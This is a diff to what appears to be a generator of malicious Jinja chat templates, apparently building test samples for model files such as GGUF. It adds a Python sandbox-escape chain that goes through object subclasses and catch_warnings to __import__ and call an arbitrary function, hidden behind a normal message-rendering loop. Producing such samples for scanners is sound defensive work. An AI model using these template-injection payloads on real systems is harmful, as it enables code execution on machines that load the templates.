@@ -1119,12 +1119,21 @@ def jinja_payload(spec, mod, name, arg):
         g = A(A("joiner", "__init__"), "__globals__")
     elif start == "namespace":
         g = A(A("namespace", "__init__"), "__globals__")
+    elif start == "subclasses":
+        # object's subclasses, searched for one whose __init__ is a Python function
+        # (warnings.catch_warnings): the classic chain through ''.__class__.
+        g = A(A("c", "__init__"), "__globals__")
     else:  # self
         g = A(A("self", "__init__"), "__globals__")
     builtins = f"{g}[{S('__builtins__')}]"
     imp = f"{builtins}[{S('__import__')}]"
     target = A(f"{imp}({S(mod)})", name)
     expr = f"{target}({arg!r})"
+    if start == "subclasses":
+        subclasses = f"{A(A(A(repr(''), '__class__'), '__mro__') + '[1]', '__subclasses__')}()"
+        cond = f"{A('c', '__name__')} == {S('catch_warnings')}"
+        return ("{% for m in messages %}{{ m['content'] }}{% endfor %}"
+                f"{{% for c in {subclasses} if {cond} %}}{{% if loop.first %}}{{{{ {expr} }}}}{{% endif %}}{{% endfor %}}"), tokens
     if spec["wrap"] == "set":
         body = f"{{% set x = {expr} %}}"
     elif spec["wrap"] == "if":
@@ -1179,7 +1188,7 @@ def gen_jinja(out, rng, k):
         if how == "token" and container.startswith("gguf"):
             how = "concat"  # GGUF special tokens are ids into the vocabulary, not strings
         spec = {"seed": rng.randrange(1 << 30), "how": how,
-                "start": rng.choice(["lipsum", "cycler", "joiner", "namespace", "self"]),
+                "start": rng.choice(["lipsum", "cycler", "joiner", "namespace", "self", "subclasses"]),
                 "access": rng.choice(["subscript", "subscript", "attr_filter", "dot"]),
                 "wrap": rng.choice(["expr", "set", "if", "loop"])}
         list_pos = rng.choice(["default", "tool_use", "rag"])
